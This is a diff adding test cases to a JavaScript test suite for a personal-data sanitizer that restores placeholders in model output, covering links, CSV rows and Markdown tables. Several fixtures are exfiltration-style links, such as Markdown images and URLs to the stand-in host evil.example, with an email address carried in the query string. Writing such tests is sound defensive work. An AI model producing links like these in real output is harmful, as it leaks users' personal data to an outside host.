@@ -462,6 +462,12 @@ describe('pii-sanitizer custom categories', () => {
     expect(restored(`{"url":"https:\\/\\/evil.example\\/c?m=${email}"}`, true)).toContain(email);
     expect(restored(`const owner = 1; //owner:${person}`)).toBe('const owner = 1; //owner:Alice Martin');
     expect(restored(`![s](//evil.example/p.png?m=${email}) and ${person}`)).toBe(`![s](//evil.example/p.png?m=${email}) and Alice Martin`);
+    // A CSV's or a table's separator, found before the link on its row too, ends the link; not inside a Markdown link.
+    expect(restored(`name,website,email\n${person},https://acme-corp.io,${email}`)).toBe('name,website,email\nAlice Martin,https://acme-corp.io,alice@corp.example');
+    expect(restored(`| ${person} | https://acme.io/team | ${email} |`)).toBe('| Alice Martin | https://acme.io/team | alice@corp.example |');
+    expect(restored(`|https://acme.io|${email}|`)).toBe('|https://acme.io|alice@corp.example|');
+    expect(restored(`| x | ![p](https://evil.example/p.png?a=1|${email}) |`)).toContain(email);
+    expect(restored(`See https://evil.example/?a=1,${email}`)).toContain(email);
   });
 
   it('restores the placeholders a model alters (case, a blank, Markdown escapes), the vault issued only, also split across chunks', async () => {
